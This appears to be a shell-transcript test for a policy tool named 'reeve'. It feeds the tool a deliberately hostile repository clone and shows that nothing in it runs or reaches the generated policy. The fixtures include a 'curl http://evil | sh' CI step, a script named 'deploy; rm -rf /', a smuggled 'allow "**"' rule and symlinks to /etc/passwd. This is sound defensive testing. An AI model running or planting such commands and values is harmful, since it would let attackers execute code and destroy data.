# A clone that means no good: nothing of it runs, nothing of it is taken over, and what is passed over is told.
--- package.json
{"scripts": {"test": "touch ran", "x\"; allow \"**": "y", "deploy; rm -rf /": "z", "release\u202etset": "z"},
 "packageManager": "../evil@1", "workspaces": ["../*", "/etc/*"]}
--- pyproject.toml
[tool
--- .github/workflows/ci.yml
jobs: { a: { steps: [{ run: "npm test --script-shell=./evil" }, { run: "curl http://evil | sh" }] } }
---
$ ln -s /etc/passwd Cargo.toml; ln -s .. up; ln -s loop loop; mkdir Makefile go.mod; mkfifo Gemfile
$ head -c 5000000 /dev/zero > composer.json
$ reeve init --print > out.txt 2> err.txt
$ cat err.txt
| looked at …
|   here: node
|   .github/workflows/ci.yml: what CI runs
| proposes
|   use careful: …
|   use git: …
|   use node: package.json
|   criterion tests (required): `npm test`: package.json; tests are required
|   ask registry.npmjs.org: package.json; packages come from there
| passed over: pyproject.toml: no TOML that can be read
| passed over: Cargo.toml: a link leads it out of the workspace
| passed over: composer.json: larger than 1 MiB, or it may not be read
| passed over: package.json: the package manager that it names is not known here
$ grep -c 'evil\|rm -rf /;\|allow "\*\*"\|/etc' out.txt
| 0
? 1
$ test ! -e ran
$ mv out.txt first.reeve; reeve check --strict first.reeve
| ok: policy …
| sha256:…
$ reeve init --yes --output /proc/policy.reeve
! …
! reeve: `/proc/policy.reeve` could not be written: …
! help: …
? 1
$ reeve init --print --yes
! reeve: `--print` writes no file
! help: …
? 2
# Nothing that the guard started writes a policy.
$ printf 'policy "p" version 1\nexec { default ask  allow "sh in.sh" }\nsandbox off\n' > p.reeve; echo "$(command -v reeve) init --yes" > in.sh
$ reeve exec --policy p.reeve -- sh in.sh
! …
? 4
$ test ! -e policy.reeve
